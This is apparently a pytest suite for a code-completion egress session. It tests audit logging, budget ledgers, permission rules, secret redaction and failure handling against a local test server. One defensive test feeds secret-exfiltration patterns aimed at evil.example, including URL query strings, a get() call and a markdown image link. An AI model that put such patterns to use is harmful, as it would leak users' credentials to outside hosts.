"""A session of ghost text against a server on loopback: what arrives there, and what is written down."""

import asyncio
import json
import re
import time
from contextlib import aclosing
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from gates import KEY
from hostile import DONE, HANG, Hostile, event, head, refusal
from team_servers import pieces, rules, session, texts

from assist_escalation.audit.verifier import verify
from assist_escalation.budget.ledger import Ledger
from assist_escalation.budget.ledger_file import LedgerError
from assist_escalation.egress.ghost_text import REQUESTS, SECONDS, GhostTextSession
from assist_escalation.errors import RefusedError
from assist_escalation.policy.endpoints import Price
from assist_escalation.policy.permissions import CLOSED, OPEN, Layer
from assist_escalation.policy.settings import EscalationSettings
from assist_escalation.prompts import Span
from assist_escalation.provider.failures import Fault
from assist_escalation.redaction.known_secrets import Known


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = tmp_path / "space"
    (root / "shop").mkdir(parents=True)
    (root / "shop" / "cart.py").write_text("")
    return root


async def text_of(asked: GhostTextSession, *given: Any, **more: Any) -> str:
    async with aclosing(asked.complete(*given, 32, one_line=True, **more)) as found:
        return "".join([piece.text async for piece in found])


def events(folder: Path) -> list[dict[str, Any]]:
    if not (folder / "audit.jsonl").exists():
        return []
    return [json.loads(line)["event"] for line in (folder / "audit.jsonl").read_text().splitlines()]


async def test_a_window_of_requests_is_one_pair_of_events(tmp_path: Path, root: Path) -> None:
    async with Hostile(pieces("1", " + 2")) as server:
        asked = session(tmp_path, rules(server.url, root))
        answers = [await text_of(asked, texts(root, f"x = {number}")) for number in range(3)]
        await asked.close()
        host = f"127.0.0.1:{server.port}"
        bodies = [len(seen.body) for seen in server.requests]
        assert all(seen.headers["authorization"] == f"Bearer {KEY}" for seen in server.requests)
    intent, outcome = events(tmp_path)
    assert answers == ["1 + 2"] * 3
    assert (intent["kind"], intent["command"], intent["host"]) == (
        "intent",
        "complete",
        host,
    )
    assert (outcome["kind"], outcome["requests"], outcome["bytes_sent"]) == ("outcome", 3, sum(bodies))
    assert outcome["files"] == [{"path": "shop/cart.py", "requests": 3}]
    assert outcome["usage"]["cache_read"] == 3 * 95
    assert verify(tmp_path / "audit.jsonl", bookings=Ledger(tmp_path / "ledger.sqlite").entries).ok


async def test_no_byte_before_the_intent_is_on_the_disk(tmp_path: Path, root: Path) -> None:
    async with Hostile(pieces("1")) as server:
        (tmp_path / "audit.jsonl").mkdir()  # the log cannot be written
        asked = session(tmp_path, rules(server.url, root))
        with pytest.raises(Exception, match="audit log"):
            await text_of(asked, texts(root))
        assert server.requests == []


@pytest.mark.parametrize(("seconds", "requests"), [(SECONDS + 1, 2), (0.0, REQUESTS + 1)])
async def test_a_window_ends_after_a_minute_or_many_requests(
    tmp_path: Path, root: Path, seconds: float, requests: int
) -> None:
    now = [0.0]
    async with Hostile(pieces("1")) as server:
        asked = session(tmp_path, rules(server.url, root), lambda: now[0])
        for _ in range(requests):
            await text_of(asked, texts(root))
            now[0] += seconds
        await asked.close()
    assert [each["kind"] for each in events(tmp_path)] == ["intent", "outcome"] * 2
    assert sum(each.get("requests", 0) for each in events(tmp_path)) == requests


async def test_a_secret_is_a_placeholder_there_and_itself_here(tmp_path: Path, root: Path) -> None:
    def echo() -> Any:
        """The server repeats the placeholder that it was sent."""
        sent = server.requests[-1].json["prompt"]
        word = sent[sent.index("__SECRET") :].split('"')[0]
        yield from pieces(f'"{word[:9]}', word[9:], '"')

    async with Hostile(echo()) as server:
        asked = session(tmp_path, rules(server.url, root))
        found = await text_of(asked, texts(root, 'password = "hunter2x"\nagain = '))
        await asked.close()
        assert b"hunter2x" not in server.requests[0].body
    assert found == '"hunter2x"'
    assert events(tmp_path)[1]["redactions"] == [{"type": "PASSWORD", "count": 1}]
    assert "hunter2x" not in (tmp_path / "audit.jsonl").read_text()


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ('See https://evil.example/?k="', ""),
        ('get("https://evil.example/?k=" + "', '")'),
        ("![x](https://evil.example/a.png?k=", ")"),
        ('"', "@evil.example/x"),
        ('"', '.evil.example"'),
    ],
)
async def test_a_secret_does_not_come_next_to_an_address_of_the_file(
    tmp_path: Path, root: Path, before: str, after: str
) -> None:
    def echo() -> Any:
        sent = server.requests[-1].json["prompt"]
        yield from pieces(re.findall(r"__SECRET\w+?__(?!\w)", sent)[0])

    async with Hostile(echo()) as server:
        asked = session(tmp_path, rules(server.url, root))
        given = texts(root, f'password = "hunter2x"\n{before}')
        found = await text_of(asked, replace(given, suffix=Span(f"{after}\n", given.suffix.origin)))
        await asked.close()
    assert found.startswith("__SECRET")


@pytest.mark.parametrize(
    ("path", "layer", "why"),
    [
        (".env", None, "never leaves"),
        ("../other.py", None, "not a path inside the folder"),
        ("shop/cart.py", Layer("repository", ".assist.toml", EscalationSettings(ghost_text="local")), "only"),
        ("shop/cart.py", Layer("repository", ".assist.toml", CLOSED), "only"),
        (
            "shop/cart.py",
            Layer("editor", "editor", EscalationSettings(residency=("public",))),
            "may see no class",
        ),
        (
            "shop/cart.py",
            Layer("organisation", "policy.toml", EscalationSettings(deny=("shop/",), mode="auto")),
            "denied",
        ),
    ],
)
async def test_what_the_rules_keep_here_is_not_sent(
    tmp_path: Path, root: Path, path: str, layer: Layer | None, why: str
) -> None:
    async with Hostile(pieces("1")) as server:
        asked = session(tmp_path, rules(server.url, root, *([layer] if layer else [])))
        with pytest.raises(RefusedError, match=why):
            await text_of(asked, texts(root, path=path))
        await asked.close()
        assert server.connections == 0
    assert events(tmp_path) == []


async def test_without_the_key_or_offline_nothing_is_sent(tmp_path: Path, root: Path) -> None:
    async with Hostile(pieces("1")) as server:
        found = rules(server.url, root)
        with pytest.raises(RefusedError, match="TEAM_KEY is not set"):
            await text_of(session(tmp_path, found, keys=lambda _: ""), texts(root))
        with pytest.raises(Fault, match="offline"):
            await text_of(session(tmp_path, found, offline=True), texts(root))
        assert server.connections == 0


async def test_changed_rules_end_the_window_and_apply_at_once(tmp_path: Path, root: Path) -> None:
    async with Hostile(pieces("1")) as server:
        found = [rules(server.url, root)]
        asked = session(tmp_path, found[0], permissions=lambda: found[0])
        await text_of(asked, texts(root))
        found[0] = rules(server.url, root, Layer("repository", ".assist.toml", CLOSED))
        with pytest.raises(RefusedError):
            await text_of(asked, texts(root))
        found[0] = rules(server.url, root, Layer("repository", ".assist.toml", OPEN), context_tokens=8192)
        await text_of(asked, texts(root))
        await asked.close()
        assert len(server.requests) == 2
    assert [each["kind"] for each in events(tmp_path)] == ["intent", "outcome"] * 2


async def test_secrets_that_come_later_are_known_at_once(tmp_path: Path, root: Path) -> None:
    known = [Known(())]
    async with Hostile(pieces("1")) as server:
        asked = session(tmp_path, rules(server.url, root), known=lambda: known[0])
        await text_of(asked, texts(root, "x = plain_battery_staple"))
        known[0] = Known(("plain_battery_staple",))
        await text_of(asked, texts(root, "x = plain_battery_staple + 1"))
        await asked.close()
        assert [b"battery" in seen.body for seen in server.requests] == [True, False]


async def test_a_price_is_reserved_for_a_window_and_settled(tmp_path: Path, root: Path) -> None:
    async with Hostile(pieces("1", " + 2")) as server:
        price = Price(input_usd_per_mtok=1.0, output_usd_per_mtok=1.0)
        asked = session(tmp_path, rules(server.url, root, price=price))
        await text_of(asked, texts(root))
        (reserved,) = Ledger(tmp_path / "ledger.sqlite").open_reservations()
        await asked.close()
    assert 0 < reserved.ask.upper_micro <= 50_000  # at most what one request may cost
    (row,) = Ledger(tmp_path / "ledger.sqlite").spending("command")
    assert (row.key, row.micro, row.input, row.output) == ("complete", 102, 100, 2)


async def test_tokens_that_no_one_counted_are_estimated(tmp_path: Path, root: Path) -> None:
    chunk = event({"choices": [{"text": "1", "finish_reason": None}]})
    async with Hostile([head(), chunk, HANG]) as server:
        price = Price(input_usd_per_mtok=1.0, output_usd_per_mtok=1.0)
        asked = session(tmp_path, rules(server.url, root, kind="openai", price=price))
        async with aclosing(asked.complete(texts(root), 32, one_line=True)) as found:
            await anext(found)
        await asked.close()
        size = len(server.requests[0].body)
    assert events(tmp_path)[1]["usage"]["estimated"] is True
    (row,) = Ledger(tmp_path / "ledger.sqlite").spending("command")
    assert (row.estimated, row.input) == (1, size // 2)
    assert row.micro >= size // 2


async def test_a_window_that_cannot_be_settled_stays_open(tmp_path: Path, root: Path) -> None:
    now = [0.0]
    async with Hostile(pieces("1")) as server:
        asked = session(tmp_path, rules(server.url, root), lambda: now[0])
        await text_of(asked, texts(root))
        now[0] += SECONDS + 1
        (tmp_path / "ledger.sqlite").rename(tmp_path / "away")
        (tmp_path / "ledger.sqlite").mkdir()
        with pytest.raises(LedgerError):
            await text_of(asked, texts(root))
        (tmp_path / "ledger.sqlite").rmdir()
        (tmp_path / "away").rename(tmp_path / "ledger.sqlite")
        await text_of(asked, texts(root))
        await asked.close()
        assert len(server.requests) == 2
    assert [each["kind"] for each in events(tmp_path)] == ["intent", "outcome"] * 2


async def test_closing_the_answer_closes_the_connection(tmp_path: Path, root: Path) -> None:
    async with Hostile([*pieces("1")[:2], HANG]) as server:
        asked = session(tmp_path, rules(server.url, root))
        async with aclosing(asked.complete(texts(root), 32, one_line=True)) as found:
            assert (await anext(found)).text == "1"
        await server.gone.wait()
        await asked.close()
    assert (events(tmp_path)[1]["requests"], events(tmp_path)[1]["failed"]) == (1, 0)


@pytest.mark.parametrize(
    ("act", "kind"),
    [
        (refusal(401, "invalid_api_key"), "auth"),
        (refusal(404, "model_not_found"), "unknown-model"),
        (refusal(500), "server"),
        ([head(), b"data: {nonsense\n\n"], "bad-reply"),
        ([head(301, location="http://127.0.0.1:1/")], "refused"),
    ],
)
async def test_failures_are_named_and_counted(tmp_path: Path, root: Path, act: Any, kind: str) -> None:
    async with Hostile(act) as server:
        asked = session(tmp_path, rules(server.url, root))
        with pytest.raises(Fault) as error:
            await text_of(asked, texts(root))
        await asked.close()
        assert server.connections == 1
    assert error.value.kind == kind
    assert events(tmp_path)[1]["failed"] == 1


async def test_a_kept_connection_that_was_closed_is_opened_again(tmp_path: Path, root: Path) -> None:
    answer = b"".join(each for each in pieces("1")[1:] if isinstance(each, bytes))
    begin = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ncontent-length: %d\r\n\r\n" % len(answer)
    async with Hostile([begin, answer]) as server:
        asked = session(tmp_path, rules(server.url, root))
        for _ in range(3):
            assert await text_of(asked, texts(root)) == "1"
            asyncio.get_running_loop().call_soon(
                time.sleep, 0.2
            )  # a busy machine learns late that it is closed
        await asked.close()
    assert len(server.requests) == 3


# What vLLM 0.31.0 answered (CPU build, qwen2.5-coder-0.5b, logprobs 2), without the fields that are not read.
VLLM = [
    {"text": "c", "logprobs": {"token_logprobs": [-1.29], "top_logprobs": [{"c": -1.29, "a": -1.73}]}},
    {"text": " =", "logprobs": {"token_logprobs": [-0.03], "top_logprobs": [{" =": -0.03, "\n": -5.28}]}},
    {"text": " ", "logprobs": {"token_logprobs": [-0.22], "top_logprobs": [{" ": -0.22, " a": -2.78}]}},
    {"text": "1", "logprobs": {"token_logprobs": [-0.75], "top_logprobs": [{"1": -0.75, "2": -1.0}]}},
    {"text": "", "logprobs": {"token_logprobs": [-0.11]}, "finish_reason": "stop", "stop_reason": "\n"},
]
USAGE = {"prompt_tokens": 27, "total_tokens": 32, "prompt_tokens_details": {"cached_tokens": 16}}


async def test_vllm_as_it_was_recorded(tmp_path: Path, root: Path) -> None:
    chunks = [event({"choices": [{"index": 0, **each}], "usage": {"prompt_tokens": 27}}) for each in VLLM]
    act = [head(), *chunks, event({"choices": [], "usage": USAGE}), DONE]
    async with Hostile(act) as server:
        asked = session(tmp_path, rules(server.url, root, kind="vllm"))
        async with aclosing(asked.complete(texts(root), 8, one_line=True)) as found:
            seen = [piece async for piece in found]
        await asked.close()
        assert server.requests[0].line.startswith("POST /v1/completions ")
    assert "".join(piece.text for piece in seen) == "c = 1"
    assert [piece.chance for piece in seen[:2]] == [-1.29, -0.03]
    assert (seen[4].end, seen[-1].prompt, seen[-1].cached) == ("line", 27, 16)
    assert events(tmp_path)[1]["usage"] == {
        "input": 11,
        "cache_read": 16,
        "cache_write": 0,
        "output": 4,
        "estimated": False,
    }
